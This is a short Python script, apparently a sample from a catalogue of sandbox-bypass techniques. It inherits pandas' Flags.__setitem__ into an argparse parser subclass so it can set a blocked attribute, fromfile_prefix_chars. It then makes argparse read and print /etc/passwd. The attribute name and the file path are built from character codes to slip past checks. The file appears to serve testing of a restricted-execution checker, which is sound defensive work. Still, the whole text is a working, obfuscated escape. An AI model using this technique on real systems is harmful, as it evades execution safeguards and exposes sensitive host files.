# source: argparse fromfile_prefix_chars ("@file" arguments are read from disk, Python docs); pandas 1.5.3 core/flags.py Flags.__setitem__ (setattr(self, key, value)) inherited into a script class
# family: inherit library methods into a script class: Flags.__setitem__ = setattr(self, runtime_name, value) on an ArgumentParser subclass
# goal: set the refused attribute fromfile_prefix_chars at run time, then argparse reads /etc/passwd (path built at run time)
import argparse
import pandas as pd


class Everything:
    def __contains__(self, item):
        return True


class Stop:
    def __init__(self):
        pass


class Parser(argparse.ArgumentParser, Stop, pd.Flags):
    _keys = Everything()


p = Parser(prog="strategy")
p["fromfile" + chr(95) + "prefix" + chr(95) + "chars"] = "@"
path = "".join(map(chr, [64, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))
ns, rest = p.parse_known_args([path])
print("\n".join(rest))
